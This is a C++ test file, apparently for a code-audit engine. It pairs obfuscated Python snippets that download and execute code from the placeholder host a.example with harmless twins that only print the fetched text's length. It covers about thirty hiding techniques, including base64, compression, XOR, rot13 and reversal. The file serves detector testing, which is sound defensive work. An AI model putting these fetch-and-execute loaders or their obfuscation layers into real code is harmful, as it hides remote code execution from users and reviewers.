#include "trust/audit/engine/test_programs.h"

// Code that is hidden in constants: what it does is seen at the place where it is run.
namespace pilothouse::audit::test {
namespace {

const Program kPrograms[] = {
    {"Plain", R"py(
exec('import requests\nexec(requests.get("https://a.example").text)\n')  # to # from)py",
     R"py(
exec('import requests\nprint(len(requests.get("https://a.example").text))\n'))py"},
    {"Base64", R"py(
import base64
exec(base64.b64decode('aW1wb3J0IHJlcXVlc3RzCmV4ZWMocmVxdWVzdHMuZ2V0KCJodHRwczovL2EuZXhhbXBsZSIpLnRleHQpCg=='))  # to # from)py",
     R"py(
import base64
exec(base64.b64decode('aW1wb3J0IHJlcXVlc3RzCnByaW50KGxlbihyZXF1ZXN0cy5nZXQoImh0dHBzOi8vYS5leGFtcGxlIikudGV4dCkpCg==')))py"},
    {"Base64Url", R"py(
import base64
exec(base64.urlsafe_b64decode(b'aW1wb3J0IHJlcXVlc3RzCmV4ZWMocmVxdWVzdHMuZ2V0KCJodHRwczovL2EuZXhhbXBsZSIpLnRleHQpCg==').decode())  # to # from)py",
     R"py(
import base64
exec(base64.urlsafe_b64decode(b'aW1wb3J0IHJlcXVlc3RzCnByaW50KGxlbihyZXF1ZXN0cy5nZXQoImh0dHBzOi8vYS5leGFtcGxlIikudGV4dCkpCg==').decode()))py"},
    {"Base32", R"py(
import base64
exec(base64.b32decode(b'NFWXA33SOQQHEZLROVSXG5DTBJSXQZLDFBZGK4LVMVZXI4ZOM5SXIKBCNB2HI4DTHIXS6YJOMV4GC3LQNRSSEKJOORSXQ5BJBI======'))  # to # from)py",
     R"py(
import base64
exec(base64.b32decode(b'NFWXA33SOQQHEZLROVSXG5DTBJYHE2LOOQUGYZLOFBZGK4LVMVZXI4ZOM5SXIKBCNB2HI4DTHIXS6YJOMV4GC3LQNRSSEKJOORSXQ5BJFEFA====')))py"},
    {"Base85", R"py(
import base64
exec(base64.b85decode(b'X>D+Ca&#baWpQ<7b98eGWq4&{C~{?Sb!BsOb1r9PbSNTdbaZfYIxjC_E@gOOZE$R5A}KC(Wq5Qc3I'))  # to # from)py",
     R"py(
import base64
exec(base64.b85decode(b'X>D+Ca&#baWpQ<7b98eGaB^vGbSP|PZYXkPadl;LbaO6eWppSaXmoUNb2=|CVJ>BOVQp}1Wg;mqbY*ySDJcp')))py"},
    {"Ascii85", R"py(
import base64
exec(base64.a85decode(b'Bl.g-Ec`FEAT;j(F*)I1AU%cr-urm=F_,W9F"V*:F=8>HFEDJC3\\N-p/nK99D/a<&+t5-dAU&;G$3'))  # to # from)py",
     R"py(
import base64
exec(base64.a85decode(b'Bl.g-Ec`FEAT;j(F*)I1E,oZ1F=:s:DCBO:EHPi6FE9\'IATT=EBQS?8F#ks-@4l,9@;Tt"AKiQUFCf]=.4GT')))py"},
    {"Hex", R"py(
exec(bytes.fromhex('696d706f72742072657175657374730a657865632872657175657374732e676574282268747470733a2f2f612e6578616d706c6522292e74657874290a').decode())  # to # from)py",
     R"py(
exec(bytes.fromhex('696d706f72742072657175657374730a7072696e74286c656e2872657175657374732e676574282268747470733a2f2f612e6578616d706c6522292e7465787429290a').decode()))py"},
    {"Unhexlify", R"py(
import binascii
exec(binascii.unhexlify('696d706f72742072657175657374730a657865632872657175657374732e676574282268747470733a2f2f612e6578616d706c6522292e74657874290a'))  # to # from)py",
     R"py(
import binascii
exec(binascii.unhexlify('696d706f72742072657175657374730a7072696e74286c656e2872657175657374732e676574282268747470733a2f2f612e6578616d706c6522292e7465787429290a')))py"},
    {"Zlib", R"py(
import base64, zlib
exec(zlib.decompress(base64.b64decode('eNrLzC3ILypRKEotLE0tLinmSq1ITdaA8fTSU0s0lDJKSgqKrfT1E/VSKxJzC3JSlTT1SlIrSjS5AM3eFfo=')))  # to # from)py",
     R"py(
import base64, zlib
exec(zlib.decompress(base64.b64decode('eNrLzC3ILypRKEotLE0tLinmKijKzCvRyEnN04AJ6aWnlmgoZZSUFBRb6esn6qVWJOYW5KQqaeqVpFaUaGpyAQBi2RgS'))))py"},
    {"ZlibOfEscapes", R"py(
import zlib
exec(zlib.decompress(b'x\xda\xcb\xcc-\xc8/*Q(J-,M-.)\xe6J\xadHM\xd6\x80\xf1\xf4\xd2SK4\x942JJ\n\x8a\xad\xf4\xf5\x13\xf5R+\x12s\x0brR\x954\xf5JR+J4\xb9\x00\xcd\xde\x15\xfa'))  # to # from)py",
     R"py(
import zlib
exec(zlib.decompress(b"x\xda\xcb\xcc-\xc8/*Q(J-,M-.)\xe6*(\xca\xcc+\xd1\xc8I\xcd\xd3\x80\t\xe9\xa5\xa7\x96h(e\x94\x94\x14\x14[\xe9\xeb'\xea\xa5V$\xe6\x16\xe4\xa4*i\xea\x95\xa4V\x94hjr\x01\x00b\xd9\x18\x12")))py"},
    {"Gzip", R"py(
import base64, gzip
exec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlEoSi0sTS0uKeZKrUhN1oDx9NJTSzSUMkpKCoqt9PUT9VIrEnMLclKVNPVKUitKNLkAnUxW+z0AAAA=')))  # to # from)py",
     R"py(
import base64, gzip
exec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlEoSi0sTS0uKeYqKMrMK9HISc3TgAnppaeWaChllJQUFFvp6yfqpVYk5hbkpCpp6pWkVpRoanIBACD9zYtDAAAA'))))py"},
    {"Bz2", R"py(
import base64, bz2
exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWWj5V7IAAA9ZgAAQUGGAECrm/kAgAEDVPJPTUHoT1HppCg0aNBkBpCZZTYuGVWaha6c5Gg7+XO9JxB5C2ERO4qguWLJ6J0K7fi7kinChINHyr2Q=')))  # to # from)py",
     R"py(
import base64, bz2
exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWR/zpgwAAA9ZgAAQUGGAECLn/kAgAEDVPSbTSaeobUemUKDRo0GQGlX1ylAx0uqVVdylhAkMykubRnx/SroJgw97QYoYwWm7t8IkIPxdyRThQkB/zpgw'))))py"},
    {"Lzma", R"py(
import base64, lzma
exec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4AA8ADpdADSbSme4Ujxz9PXzugT+YU2K1xI2nM6iOdmy4QAmzpvaXn33VRHc/5Idd21b0Fm8r+k2QmcARpyBKwAAAACJESR5AB42VAABVj3oAw+UH7bzfQEAAAAABFla')))  # to # from)py",
     R"py(
import base64, lzma
exec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ABCAEBdADSbSme4Ujxz9PXzugT+YU2K5g9LWmiC3WRZfjsNuFrHVuAUnkCZLeHSEuYOfvtLRDWfhuneiKt8gY84EGcZIAAANEkvwceZvloAAVxDWbdd2R+2830BAAAAAARZWg=='))))py"},
    {"Rot13", R"py(
import codecs
exec(codecs.decode('vzcbeg erdhrfgf\nrkrp(erdhrfgf.trg("uggcf://n.rknzcyr").grkg)\n', 'rot13'))  # to # from)py",
     R"py(
import codecs
exec(codecs.decode('vzcbeg erdhrfgf\ncevag(yra(erdhrfgf.trg("uggcf://n.rknzcyr").grkg))\n', 'rot13')))py"},
    {"CodecsHex", R"py(
import codecs
exec(codecs.decode('696d706f72742072657175657374730a657865632872657175657374732e676574282268747470733a2f2f612e6578616d706c6522292e74657874290a', 'hex'))  # to # from)py",
     R"py(
import codecs
exec(codecs.decode('696d706f72742072657175657374730a7072696e74286c656e2872657175657374732e676574282268747470733a2f2f612e6578616d706c6522292e7465787429290a', 'hex')))py"},
    {"Backwards", R"py(
exec('\n)txet.)"elpmaxe.a//:sptth"(teg.stseuqer(cexe\nstseuqer tropmi'[::-1])  # to # from)py",
     R"py(
exec('\n))txet.)"elpmaxe.a//:sptth"(teg.stseuqer(nel(tnirp\nstseuqer tropmi'[::-1]))py"},
    {"Xor", R"py(
exec(''.join(chr(c ^ 7) for c in [110, 106, 119, 104, 117, 115, 39, 117, 98, 118, 114, 98, 116, 115, 116, 13, 98, 127, 98, 100, 47, 117, 98, 118, 114, 98, 116, 115, 116, 41, 96, 98, 115, 47, 37, 111, 115, 115, 119, 116, 61, 40, 40, 102, 41, 98, 127, 102, 106, 119, 107, 98, 37, 46, 41, 115, 98, 127, 115, 46, 13]))  # to # from)py",
     R"py(
exec(''.join(chr(c ^ 7) for c in [110, 106, 119, 104, 117, 115, 39, 117, 98, 118, 114, 98, 116, 115, 116, 13, 119, 117, 110, 105, 115, 47, 107, 98, 105, 47, 117, 98, 118, 114, 98, 116, 115, 116, 41, 96, 98, 115, 47, 37, 111, 115, 115, 119, 116, 61, 40, 40, 102, 41, 98, 127, 102, 106, 119, 107, 98, 37, 46, 41, 115, 98, 127, 115, 46, 46, 13])))py"},
    {"XorOfBytes", R"py(
exec(bytes(c ^ 7 for c in b"njwhus'ubvrbtst\rb\x7fbd/ubvrbtst)`bs/%osswt=((f)b\x7ffjwkb%.)sb\x7fs.\r").decode())  # to # from)py",
     R"py(
exec(bytes(c ^ 7 for c in b"njwhus'ubvrbtst\rwunis/kbi/ubvrbtst)`bs/%osswt=((f)b\x7ffjwkb%.)sb\x7fs..\r").decode()))py"},
    {"XorWithAKey", R"py(
key = b'ab'
data = b'\x08\x0f\x11\r\x13\x16A\x10\x04\x13\x14\x07\x12\x16\x12h\x04\x1a\x04\x01I\x10\x04\x13\x14\x07\x12\x16\x12L\x06\x07\x15JC\n\x15\x16\x11\x11[MN\x03O\x07\x19\x03\x0c\x12\r\x07CKO\x16\x04\x1a\x15Kk'
exec(bytes([data[i] ^ key[i % len(key)] for i in range(len(data))]))  # to # from)py",
     R"py(
key = b'ab'
data = b'\x08\x0f\x11\r\x13\x16A\x10\x04\x13\x14\x07\x12\x16\x12h\x11\x10\x08\x0c\x15J\r\x07\x0fJ\x13\x07\x10\x17\x04\x11\x15\x11O\x05\x04\x16I@\t\x16\x15\x12\x12XNM\x00L\x04\x1a\x00\x0f\x11\x0e\x04@HL\x15\x07\x19\x16HKk'
exec(bytes([data[i] ^ key[i % len(key)] for i in range(len(data))])))py"},
    {"XorInAFunction", R"py(
def shown(data, key):
    return ''.join(chr(a ^ key) for a in data)
exec(shown([96, 100, 121, 102, 123, 125, 41, 123, 108, 120, 124, 108, 122, 125, 122, 3, 108, 113, 108, 106, 33, 123, 108, 120, 124, 108, 122, 125, 122, 39, 110, 108, 125, 33, 43, 97, 125, 125, 121, 122, 51, 38, 38, 104, 39, 108, 113, 104, 100, 121, 101, 108, 43, 32, 39, 125, 108, 113, 125, 32, 3], 9))  # to # from)py",
     R"py(
def shown(data, key):
    return ''.join(chr(a ^ key) for a in data)
exec(shown([96, 100, 121, 102, 123, 125, 41, 123, 108, 120, 124, 108, 122, 125, 122, 3, 121, 123, 96, 103, 125, 33, 101, 108, 103, 33, 123, 108, 120, 124, 108, 122, 125, 122, 39, 110, 108, 125, 33, 43, 97, 125, 125, 121, 122, 51, 38, 38, 104, 39, 108, 113, 104, 100, 121, 101, 108, 43, 32, 39, 125, 108, 113, 125, 32, 32, 3], 9)))py"},
    {"Numbers", R"py(
exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 114, 101, 113, 117, 101, 115, 116, 115, 10, 101, 120, 101, 99, 40, 114, 101, 113, 117, 101, 115, 116, 115, 46, 103, 101, 116, 40, 34, 104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 34, 41, 46, 116, 101, 120, 116, 41, 10])))  # to # from)py",
     R"py(
exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 114, 101, 113, 117, 101, 115, 116, 115, 10, 112, 114, 105, 110, 116, 40, 108, 101, 110, 40, 114, 101, 113, 117, 101, 115, 116, 115, 46, 103, 101, 116, 40, 34, 104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 34, 41, 46, 116, 101, 120, 116, 41, 41, 10]))))py"},
    {"NumbersAsBytes", R"py(
exec(bytes([105, 109, 112, 111, 114, 116, 32, 114, 101, 113, 117, 101, 115, 116, 115, 10, 101, 120, 101, 99, 40, 114, 101, 113, 117, 101, 115, 116, 115, 46, 103, 101, 116, 40, 34, 104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 34, 41, 46, 116, 101, 120, 116, 41, 10]))  # to # from)py",
     R"py(
exec(bytes([105, 109, 112, 111, 114, 116, 32, 114, 101, 113, 117, 101, 115, 116, 115, 10, 112, 114, 105, 110, 116, 40, 108, 101, 110, 40, 114, 101, 113, 117, 101, 115, 116, 115, 46, 103, 101, 116, 40, 34, 104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 34, 41, 46, 116, 101, 120, 116, 41, 41, 10])))py"},
    {"Pieces", R"py(
parts = ['import re', 'quests\nex', 'ec(reques', 'ts.get("h', 'ttps://a.', 'example")', '.text)\n']
exec(''.join(parts))  # to # from)py",
     R"py(
parts = ['import re', 'quests\npr', 'int(len(r', 'equests.g', 'et("https', '://a.exam', 'ple").tex', 't))\n']
exec(''.join(parts)))py"},
    {"Replaced", R"py(
exec('import r#qu#sts\n#x#c(r#qu#sts.g#t("https://a.#xampl#").t#xt)\n'.replace('#', 'e'))  # to # from)py",
     R"py(
exec('import r#qu#sts\nprint(l#n(r#qu#sts.g#t("https://a.#xampl#").t#xt))\n'.replace('#', 'e')))py"},
    {"EscapesOfUnicode", R"py(
exec('\x69\x6d\x70\x6f\x72\x74\x20\x72\x65\x71\x75\x65\x73\x74\x73\x0a\x65\x78\x65\x63\x28\x72\x65\x71\x75\x65\x73\x74\x73\x2e\x67\x65\x74\x28\x22\x68\x74\x74\x70\x73\x3a\x2f\x2f\x61\x2e\x65\x78\x61\x6d\x70\x6c\x65\x22\x29\x2e\x74\x65\x78\x74\x29\x0a')  # to # from)py",
     R"py(
exec('\x69\x6d\x70\x6f\x72\x74\x20\x72\x65\x71\x75\x65\x73\x74\x73\x0a\x70\x72\x69\x6e\x74\x28\x6c\x65\x6e\x28\x72\x65\x71\x75\x65\x73\x74\x73\x2e\x67\x65\x74\x28\x22\x68\x74\x74\x70\x73\x3a\x2f\x2f\x61\x2e\x65\x78\x61\x6d\x70\x6c\x65\x22\x29\x2e\x74\x65\x78\x74\x29\x29\x0a'))py"},
    {"Codes", R"py(
import base64, zlib, codecs
exec(zlib.decompress(base64.b64decode(codecs.decode('=bsSr3ZN5FwFeVyF1GGyFW3PmWkXFI/R1GseXdtFXWQy0f0HFGs8NnqGV1dFzavYg0RYgbRXEclYV3PmYmWr', 'rot13')[::-1])))  # to # from)py",
     R"py(
import base64, zlib, codecs
exec(zlib.decompress(base64.b64decode(codecs.decode('FtE2vODNlcTnHnScIdrndDX5JLBWJId6afr6oEOSHFMMbtzyaJn6WN40AaRlEiPmXwvXzavYg0RYgbRXEclYV3PmYmWr', 'rot13')[::-1]))))py"},
    {"TwoExecs", R"py(
import base64
exec(base64.b64decode(b'aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoYidhVzF3YjNKMElISmxjWFZsYzNSekNtVjRaV01vY21WeGRXVnpkSE11WjJWMEtDSm9kSFJ3Y3pvdkwyRXVaWGhoYlhCc1pTSXBMblJsZUhRcENnPT0nKSkK'))  # to # from)py",
     R"py(
import base64
exec(base64.b64decode(b'aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoYidhVzF3YjNKMElISmxjWFZsYzNSekNuQnlhVzUwS0d4bGJpaHlaWEYxWlhOMGN5NW5aWFFvSW1oMGRIQnpPaTh2WVM1bGVHRnRjR3hsSWlrdWRHVjRkQ2twQ2c9PScpKQo=')))py"},
    {"Compiled", R"py(
import base64
exec(compile(base64.b64decode(b'aW1wb3J0IHJlcXVlc3RzCmV4ZWMocmVxdWVzdHMuZ2V0KCJodHRwczovL2EuZXhhbXBsZSIpLnRleHQpCg=='), '<a>', 'exec'))  # to # from)py",
     R"py(
import base64
exec(compile(base64.b64decode(b'aW1wb3J0IHJlcXVlc3RzCnByaW50KGxlbihyZXF1ZXN0cy5nZXQoImh0dHBzOi8vYS5leGFtcGxlIikudGV4dCkpCg=='), '<a>', 'exec')))py"},
    {"ThroughAFunction", R"py(
import base64
def undo(text):
    return base64.b64decode(text).decode('utf-8')
exec(undo('aW1wb3J0IHJlcXVlc3RzCmV4ZWMocmVxdWVzdHMuZ2V0KCJodHRwczovL2EuZXhhbXBsZSIpLnRleHQpCg=='))  # to # from)py",
     R"py(
import base64
def undo(text):
    return base64.b64decode(text).decode('utf-8')
exec(undo('aW1wb3J0IHJlcXVlc3RzCnByaW50KGxlbihyZXF1ZXN0cy5nZXQoImh0dHBzOi8vYS5leGFtcGxlIikudGV4dCkpCg==')))py"},
    {"Eval", R"py(
eval("exec('import requests\\nexec(requests.get(\"https://a.example\").text)\\n')")  # to # from)py",
     R"py(
eval("exec('import requests\\nprint(len(requests.get(\"https://a.example\").text))\\n')"))py"},
    {"ImportOfDecoder", R"py(
__import__('builtins').exec(__import__('base64').b64decode(b'aW1wb3J0IHJlcXVlc3RzCmV4ZWMocmVxdWVzdHMuZ2V0KCJodHRwczovL2EuZXhhbXBsZSIpLnRleHQpCg=='))  # to # from)py",
     R"py(
__import__('builtins').exec(__import__('base64').b64decode(b'aW1wb3J0IHJlcXVlc3RzCnByaW50KGxlbihyZXF1ZXN0cy5nZXQoImh0dHBzOi8vYS5leGFtcGxlIikudGV4dCkpCg==')))py"},
};

INSTANTIATE_TEST_SUITE_P(Layers, Twins, testing::ValuesIn(kPrograms), name_of);

}  // namespace
}  // namespace pilothouse::audit::test
